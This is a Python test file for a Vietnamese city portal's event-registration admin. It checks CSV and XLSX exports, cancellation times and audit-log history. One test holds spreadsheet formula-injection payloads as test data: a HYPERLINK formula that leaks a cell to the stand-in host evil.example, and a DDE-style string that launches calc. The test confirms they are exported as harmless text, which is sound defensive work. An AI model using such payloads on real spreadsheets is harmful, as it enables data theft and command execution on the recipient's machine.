"""The organisers' side of sign-ups: the list and its CSV and XLSX exports (opened in Excel, in
Vietnam time, no formulas run), and the history of seats given and people checked in."""

import csv
import datetime
import io

from django.contrib.auth import get_user_model

from cityportal.events.models import Registration

from .conftest import register, sign_up

DAY = datetime.timedelta(days=1)
S = Registration.Status


def test_the_organisers_csv_of_sign_ups_opens_in_excel(client, make_event):
    event = make_event(title="Tọa đàm chuyển đổi số", capacity=10)
    register(client, event, name="Nguyễn Thị Hồng Nhung", organisation="Phường Bến Thành")
    staff = get_user_model().objects.create_superuser("btc", "btc@example.invalid", "pw")
    client.force_login(staff)
    response = client.get("/admin/events/registrations/", {"export": "csv"})
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM: without it Excel garbles Vietnamese
    assert "Nguyễn Thị Hồng Nhung" in body.decode("utf-8-sig")


def test_the_sign_ups_export_gives_vietnam_time_and_the_status_in_words(client, make_event):
    import io

    import openpyxl

    event = make_event(title="Tọa đàm giờ đăng ký", capacity=10)
    at = datetime.datetime(2031, 1, 2, 23, 30, tzinfo=datetime.UTC)  # 06:30 on 3/1 in Vietnam
    Registration.objects.create(
        event=event, name="An", email="an@example.invalid", status=S.CONFIRMED, created_at=at
    )
    staff = get_user_model().objects.create_superuser("btc", "btc@example.invalid", "pw")
    client.force_login(staff)
    csv = b"".join(client.get("/admin/events/registrations/?export=csv").streaming_content)
    [_, row] = csv.decode("utf-8-sig").splitlines()
    assert row.endswith(",Đã có chỗ,2031-01-03 06:30:00,,")
    response = client.get("/admin/events/registrations/?export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    [headings, values] = sheet.iter_rows(values_only=True)
    assert headings[-4:-1] == ("Trạng thái", "Đăng ký lúc", "Có mặt lúc")
    assert values[-4:-1] == ("Đã có chỗ", datetime.datetime(2031, 1, 3, 6, 30), None)


def test_a_control_character_in_a_name_does_not_break_the_xlsx_export(client, make_event):
    """A vertical tab pasted into a name (from a spreadsheet) is no XML: openpyxl refused the
    whole sheet and the export was a 500."""
    import io

    import openpyxl

    event = make_event(title="Tọa đàm", capacity=10)
    Registration.objects.create(
        event=event, name="Lê\x0bVăn An", email="an@example.invalid", status=S.CONFIRMED
    )
    client.force_login(get_user_model().objects.create_superuser("btc", "b@example.invalid", "pw"))
    response = client.get("/admin/events/registrations/?export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert "LêVăn An" in [cell for row in sheet.iter_rows(values_only=True) for cell in row]


def test_sign_ups_typed_as_formulas_stay_text_in_the_csv(client, make_event):
    """A name like =HYPERLINK(…) from the public form ran as a formula in the organiser's Excel."""
    event = make_event(title="Tọa đàm công thức", capacity=10)
    register(
        client,
        event,
        name='=HYPERLINK("//evil.example/?"&A1,"Xem")',
        organisation="@SUM(1+1)*cmd|' /C calc'!A0",
        phone="+84 903 456 789",
    )
    staff = get_user_model().objects.create_superuser("btc", "btc@example.invalid", "pw")
    client.force_login(staff)
    body = b"".join(client.get("/admin/events/registrations/?export=csv").streaming_content)
    [_, row] = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert row[1] == '\'=HYPERLINK("//evil.example/?"&A1,"Xem")'
    assert row[3] == "'+84 903 456 789" and row[4] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_the_sign_ups_list_and_export_say_when_a_registration_was_cancelled(client, make_event):
    """Organisers saw "Đã hủy" and not when: a withdrawal the day before and one a month ahead
    looked alike. The time comes last in the export, every earlier column where it was."""
    import openpyxl

    event = make_event(title="Tọa đàm có người hủy", capacity=10)
    at = datetime.datetime(2031, 1, 2, 23, 30, tzinfo=datetime.UTC)  # 06:30 on 3/1 in Vietnam
    Registration.objects.create(
        event=event,
        name="=HYPERLINK(1)",
        email="an@example.invalid",
        status=S.CANCELLED,
        created_at=at - DAY,
        cancelled_at=at,
    )
    client.force_login(get_user_model().objects.create_superuser("btc", "b@example.invalid", "pw"))
    listing = client.get("/admin/events/registrations/").text
    assert "Hủy lúc" in listing
    body = b"".join(client.get("/admin/events/registrations/?export=csv").streaming_content)
    [headings, row] = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    columns = ["Sự kiện", "Họ tên", "Email", "Điện thoại", "Cơ quan, đơn vị", "Trạng thái"]
    assert headings == [*columns, "Đăng ký lúc", "Có mặt lúc", "Hủy lúc"]
    assert row[1] == "'=HYPERLINK(1)"  # still no formula in the organiser's Excel
    assert row[5:] == ["Đã hủy", "2031-01-02 06:30:00", "", "2031-01-03 06:30:00"]
    response = client.get("/admin/events/registrations/?export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    [headings, values] = sheet.iter_rows(values_only=True)
    assert headings[-1] == "Hủy lúc" and values[-1] == datetime.datetime(2031, 1, 3, 6, 30)


def test_a_promotion_and_a_bulk_check_in_are_in_the_history_with_who_and_when(
    client, make_event, django_capture_on_commit_callbacks
):
    """A seat given from the waiting list and the door's "Đánh dấu có mặt" changed rows and left
    no trace: staff could not see when someone got their seat, or who marked them present."""
    from django.urls import reverse
    from wagtail.models import ModelLogEntry

    event = make_event("Tọa đàm đông khách", capacity=1)
    for n in range(3):
        sign_up(client, event, name=f"Người {n}", email=f"n{n}@example.invalid")
    first, second, third = Registration.objects.order_by("created_at", "pk")
    client.post(first.get_cancel_url())
    [entry] = ModelLogEntry.objects.filter(action="events.registration_promoted")
    assert entry.object_id == str(second.pk) and entry.user is None
    assert abs(entry.timestamp - Registration.objects.get(pk=second.pk).promoted_at) < DAY / 24
    event.capacity = 2  # a bigger room, published
    event.save_revision().publish()
    assert ModelLogEntry.objects.filter(action="events.registration_promoted").count() == 2

    staff = get_user_model().objects.create_superuser("btc", "btc@example.invalid", "pw")
    client.force_login(staff)
    history = client.get(reverse("events_registrations:history", args=[second.pk])).text
    assert "Được nhận chỗ tham dự “Tọa đàm đông khách” từ danh sách chờ (có người hủy" in history
    history = client.get(reverse("events_registrations:history", args=[third.pk])).text
    assert "từ danh sách chờ (sự kiện có thêm chỗ trống)" in history

    url = reverse("wagtail_bulk_action", args=["events", "registration", "check_in"])
    done = client.post(f"{url}?id={second.pk}&id={third.pk}", {})
    assert done.status_code == 302
    client.post(f"{url}?id={second.pk}", {})  # marked already: not marked, nor logged, again
    entries = ModelLogEntry.objects.filter(action="events.registration_checked_in")
    assert sorted(e.object_id for e in entries) == sorted([str(second.pk), str(third.pk)])
    assert all(e.user == staff for e in entries)
    checked = Registration.objects.get(pk=third.pk).checked_in_at
    assert checked and abs(entries[0].timestamp - checked) < DAY / 24
    history = client.get(reverse("events_registrations:history", args=[third.pk])).text
    assert "Đánh dấu có mặt tại “Tọa đàm đông khách”" in history
